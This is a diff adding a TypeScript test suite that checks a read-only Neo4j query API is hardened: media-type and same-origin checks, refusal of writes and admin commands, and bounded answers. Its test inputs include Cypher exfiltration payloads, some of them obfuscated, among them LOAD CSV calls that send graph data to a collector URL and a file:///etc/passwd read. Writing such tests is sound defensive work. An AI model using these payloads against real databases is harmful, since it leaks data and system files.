@@ -1,0 +1,201 @@
+// The read-only API sealed, against the real Neo4j on loopback: exact JSON media types and the same-origin
+// check on every request, every disguise of LOAD CSV, writes, commands and plugin calls refused with the
+// graph unchanged and a loopback collector never contacted, Neo4j's own settings refusing file and URL
+// loads even to a direct session, and answers bounded in rows, bytes, list and string sizes.
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Driver } from 'neo4j-driver';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { testDriver, testTarget } from './helpers/db.ts';
+import { startServer, type RunningServer } from '../../web/server/index.ts';
+import type { QueryResponse } from '../../web/server/api-types.ts';
+import { checkQueryText } from '../../web/server/query-guard.ts';
+import { seedGraph } from '../browser/harness.ts';
+
+let driver: Driver;
+let server: RunningServer;
+let collector: http.Server;
+let sink = '';
+const collected: string[] = [];
+const database = () => testTarget().database;
+
+type Answer = QueryResponse & { error?: { code: string; message: string } };
+
+async function query(cypher: string, headers: Record<string, string> = {}, base = server.url): Promise<{ status: number; body: Answer }> {
+  const res = await fetch(new URL('/api/query', base), {
+    method: 'POST',
+    headers: { 'Content-Type': 'application/json', ...headers },
+    body: JSON.stringify({ cypher, params: {} }),
+  });
+  return { status: res.status, body: (await res.json()) as Answer };
+}
+
+async function fingerprint(): Promise<string> {
+  const { records } = await driver.executeQuery(
+    'MATCH (n) WITH count(n) AS nodes, collect(DISTINCT labels(n)) AS labels MATCH ()-[r]->() RETURN nodes, labels, count(r) AS rels',
+    {},
+    { database: database() },
+  );
+  return JSON.stringify(records[0].toObject());
+}
+
+beforeAll(async () => {
+  driver = testDriver();
+  await seedGraph(driver, database());
+  server = await startServer({ driver, database: database(), port: 0 });
+  collector = http.createServer((req, res) => {
+    collected.push(req.url ?? '');
+    res.end('a,b\n');
+  });
+  await new Promise<void>((r) => collector.listen(0, '127.0.0.1', () => r()));
+  sink = `http://127.0.0.1:${(collector.address() as AddressInfo).port}/`;
+}, 600_000);
+
+afterAll(async () => {
+  await server?.close();
+  await new Promise((r) => collector?.close(r));
+  await driver?.close();
+});
+
+describe('requests', () => {
+  it.each(['text/plain; x=application/json', 'text/plain', 'application/x-www-form-urlencoded', 'application/json; x=1', 'multipart/form-data; boundary=x'])(
+    'refuses Content-Type %s with 415',
+    async (type) => {
+      const res = await query('RETURN 1', { 'Content-Type': type });
+      expect(res.status).toBe(415);
+      expect(res.body.error?.code).toBe('UNSUPPORTED_MEDIA_TYPE');
+    },
+  );
+
+  it.each([
+    [{ Origin: 'http://evil.example' }, 403],
+    [{ Origin: 'null' }, 403],
+    [{ Origin: 'http://127.0.0.1:1' }, 403],
+    [{ 'Sec-Fetch-Site': 'cross-site' }, 403],
+    [{ 'Sec-Fetch-Site': 'same-site' }, 403],
+    [{ 'Sec-Fetch-Site': 'same-origin' }, 200],
+    [{ 'Sec-Fetch-Site': 'none' }, 200],
+  ])('with %o answers %i', async (headers, status) => {
+    const res = await query('RETURN 1 AS one', headers);
+    expect(res.status).toBe(status);
+    if (status === 403) expect(res.body.error).toEqual({ code: 'FORBIDDEN', message: expect.stringMatching(/^Cross-origin requests are refused/), retriable: false });
+  });
+
+  it('answers a request from its own origin', async () => {
+    const res = await query('RETURN 1 AS one', { Origin: server.url.slice(0, -1), 'Sec-Fetch-Site': 'same-origin' });
+    expect(res.status).toBe(200);
+    expect(res.body.rows).toEqual([[1]]);
+  });
+});
+
+describe('queries that are not reads', () => {
+  const csv = (url: string) => `LOAD CSV FROM '${url}' AS l RETURN l`;
+  it.each([
+    () => `MATCH (d:Document) WITH d LIMIT 2 WITH '//' AS x, d LOAD CSV FROM '${sink}?' + d.source + x AS l RETURN l`,
+    () => `MATCH (d:Document) WITH d, '/*' AS a LOAD CSV FROM '${sink}?' + d.id AS l RETURN l // */`,
+    () => `load csv from '${sink}' as l return l`,
+    () => `CALL { ${csv(sink)} } RETURN l`,
+    () => `UNWIND [1] AS i CALL (i) { LOAD CSV FROM '${sink}' + i AS l RETURN l } RETURN l`,
+    () => `MATCH (n) WHERE EXISTS { ${csv(sink)} } RETURN n`,
+    () => csv('file:///etc/passwd'),
+    () => `CALL apoc.load.json('${sink}')`,
+    () => `RETURN apoc.cypher.runFirstColumnSingle('${csv(sink).replace(/'/g, '"')}', {})`,
+    () => 'SHOW TRANSACTIONS',
+    () => "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
+    () => 'SHOW SETTINGS',
+    () => 'SHOW USERS',
+    () => 'SHOW PROCEDURES',
+    () => 'USE system SHOW DATABASES',
+    () => "CALL dbms.listConfig() YIELD name, value RETURN name, value",
+    () => "CALL db.createLabel('Evil')",
+    () => 'CREATE (n:Evil) RETURN n',
+    () => 'MATCH (n:Entity) SET n.hacked = true RETURN n LIMIT 1',
+    () => 'UNWIND range(1, 3) AS x CALL (x) { MATCH (n) RETURN n } IN TRANSACTIONS OF 1 ROW RETURN n',
+    () => 'CREATE INDEX evil IF NOT EXISTS FOR (n:Entity) ON (n.hacked)',
+    () => 'EXPLAIN MATCH (n) RETURN n',
+  ])('refuses %s, changes nothing and fetches nothing', async (make) => {
+    const before = await fingerprint();
+    const res = await query(make());
+    expect(res.status).toBe(403);
+    expect(res.body.error?.code).toBe('QUERY_REFUSED');
+    expect(await fingerprint()).toBe(before);
+    expect(collected).toEqual([]);
+  });
+
+  it('refuses LOAD CSV hidden from the grammar by a unicode escape that Neo4j reads as a quote (the plan check)', async () => {
+    const cypher = `WITH 'a\\u0027 AS x LOAD CSV FROM "${sink}" AS l RETURN l //' AS y RETURN y`;
+    expect(await checkQueryText(cypher)).toBe('ok'); // to the grammar, one string
+    const res = await query(cypher);
+    expect(res.status).toBe(403);
+    expect(res.body.error?.message).toMatch(/^LOAD CSV is not allowed/);
+    expect(collected).toEqual([]);
+  });
+
+  it('runs the allowed procedures', async () => {
+    const res = await query('CALL db.labels() YIELD label RETURN label ORDER BY label');
+    expect(res.status).toBe(200);
+    expect(res.body.rows.map((r) => r[0])).toContain('Entity');
+  });
+});
+
+describe("Neo4j's own settings close the same doors", () => {
+  const direct = async (cypher: string) => {
+    const session = driver.session({ database: database() });
+    try {
+      await session.run(cypher);
+      return 'ran';
+    } catch (e) {
+      return (e as { code?: string }).code ?? String(e);
+    } finally {
+      await session.close();
+    }
+  };
+  it('refuses LOAD CSV from file URLs and from any URL, even to a full-access session', async () => {
+    expect(await direct("LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l")).toMatch(/^Neo\.ClientError\./);
+    expect(await direct(`LOAD CSV FROM '${sink}' AS l RETURN l`)).toMatch(/^Neo\.ClientError\./);
+    expect(collected).toEqual([]);
+  });
+});
+
+describe('bounded answers', () => {
+  it('answers 1000 rows of 100,000-item lists cleanly, truncated, with the server memory bounded', async () => {
+    global.gc?.();
+    const rss = process.memoryUsage().rss;
+    const res = await query('UNWIND range(1, 1000) AS i RETURN [x IN range(1, 100000) | x] AS xs');
+    const grew = process.memoryUsage().rss - rss;
+    expect(res.status).toBe(200);
+    expect(res.body.truncated).toBe(true);
+    // 100,000 items a row: the read budget of 1,000,000 items is passed at the 11th row.
+    expect(res.body.rows.length).toBe(11);
+    for (const [xs] of res.body.rows) expect(xs).toEqual(Array.from({ length: 1000 }, (_, k) => k + 1));
+    expect(res.body.notice).toBe('stopped after 11 rows: the rows were too large to read further; 11 lists cut to their first 1,000 items');
+    expect(grew).toBeLessThan(400 * 1024 * 1024);
+  }, 300_000);
+
+  it('stops at the byte budget and says so', async () => {
+    const small = await startServer({ driver, database: database(), port: 0, byteBudget: 100_000 });
+    try {
+      // Rows of 4,900 characters (under the 5,000-character cap): the 21st passes 100,000 bytes.
+      const res = await query("UNWIND range(1, 1000) AS i RETURN i, reduce(s = '', x IN range(1, 490) | s + 'abcdefghij') AS text", {}, small.url);
+      expect(res.status).toBe(200);
+      expect(res.body.rows.length).toBe(21);
+      expect(res.body.truncated).toBe(true);
+      expect(res.body.notice).toBe('stopped after 21 rows at the 98 KB answer budget');
+      expect(res.body.limits).toEqual({ byteBudget: 100_000, maxList: 1000, maxString: 5000 });
+    } finally {
+      await small.close();
+    }
+  });
+
+  it('cuts long strings and deep nesting while serialising', async () => {
+    const res = await query("RETURN reduce(s = '', x IN range(1, 700) | s + 'abcdefghij') AS long, reduce(l = [], x IN range(1, 100) | [l]) AS deep");
+    expect(res.status).toBe(200);
+    const [long, deep] = res.body.rows[0] as [string, unknown];
+    expect(long.length).toBe(5001);
+    expect(long.endsWith('…')).toBe(true);
+    let d = 0;
+    for (let v: unknown = deep; Array.isArray(v); v = v[0]) d++;
+    expect(d).toBe(32);
+    expect(res.body.notice).toBe('1 strings cut to 5,000 characters; values nested deeper than 32 levels left out');
+  });
+});
